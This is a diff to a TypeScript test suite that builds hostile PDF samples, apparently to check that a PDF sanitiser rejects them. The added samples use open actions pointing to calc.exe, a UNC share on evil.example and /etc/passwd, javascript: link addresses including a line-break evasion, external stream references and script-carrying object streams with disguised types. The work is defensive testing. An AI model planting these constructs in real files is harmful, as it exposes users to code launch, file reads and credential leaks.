@@ -39,6 +39,7 @@ function lockedThenUpdated(): Buffer {
 }
 
 const SCRIPT = `<< /S /JavaScript /JS (app.alert("${CANARY}")) >>`
+const address = (value: string) => `<< /S /URI /URI (${value}) >>`
 const LAUNCH = `<< /S /Launch /F (cmd.exe ${CANARY}) >>`
 const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>'
 const PAGE = (more = '') => `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] ${more} >>`
@@ -192,6 +193,17 @@ const ACTIVE: Record<string, () => Buffer | Promise<Buffer>> = {
   'a file inside, its key escaped': () =>
     plainPdf({ more: ['<< /UF (a.exe) /#45#46 << /F 5 0 R >> >>', stream('', `MZ${CANARY}`)] }),
   'a file inside, named by nobody': () => plainPdf({ more: [stream('/Type /EmbeddedFile', `MZ${CANARY}`)] }),
+  'an address of this computer': () => plainPdf({ catalog: `/OpenAction ${address('file:///C:/Windows/calc.exe')}` }),
+  'an address of the network': () => plainPdf({ catalog: `/OpenAction ${address('\\\\\\\\evil.example\\\\share')}` }),
+  'a script as an address': () =>
+    plainPdf({ page: `/Annots [<< /Subtype /Link /A ${address('javascript:alert(1)')} >>]` }),
+  'a script as an address, with a line break': () =>
+    plainPdf({ page: `/Annots [<< /Subtype /Link /A ${address('java\\nscript:alert(1)')} >>]` }),
+  'an address that is an object of its own': () =>
+    plainPdf({ catalog: '/OpenAction << /S /URI /URI 4 0 R >>', more: ['(file:///etc/passwd)'] }),
+  'a stream whose data is in another file': () => plainPdf({ more: [stream('/F (\\\\\\\\evil.example\\\\x)', '')] }),
+  'a drawing from another file': () =>
+    plainPdf({ more: [stream('/Type /XObject /Subtype /Form /BBox [0 0 1 1] /Ref << /F (x.pdf) /Page 0 >>', '')] }),
   'a folder of files': () => plainPdf({ catalog: '/Collection << /View /D >>' }),
 }
 
@@ -224,12 +236,19 @@ const UNREADABLE: Hostile = {
     notPdf(plainPdf({ more: [objectStream([SCRIPT], 9, '/DecodeParms << /Predictor 12 /Columns 4 >>')] })),
   'an object stream that is not compressed as it says': () =>
     notPdf(plainPdf({ more: [stream('/Type /ObjStm /N 1 /First 4 /Filter /Unknown', '9 0 << >>')] })),
+  'an object stream without a type': () => notPdf(untyped('')),
+  'an object stream of another type': () => notPdf(untyped('/Type /XObject /Subtype /Image ')),
+  'an object stream whose type is an object of its own': () => notPdf(untyped('/Type 5 0 R ', ['/Object#53tm'])),
   'an object stream inside a stream': () => notPlain(hiddenIn(`9 0 obj\n${objectStream([SCRIPT], 10)}\nendobj`)),
   'an object stream that unpacks to 2 GB': async () => ({
     bytes: plainPdf({ more: [bomb()] }),
     reason: 'fileTooHard',
   }),
 }
+
+/** Viewers open an object stream that their table names, whatever its type. */
+const untyped = (type: string, more: string[] = []) =>
+  plainPdf({ more: [objectStream([SCRIPT], 9).replace('/Type /ObjStm ', type), ...more] })
 
 /** Zeros packed twice, so that little is sent. */
 function bomb(): string {
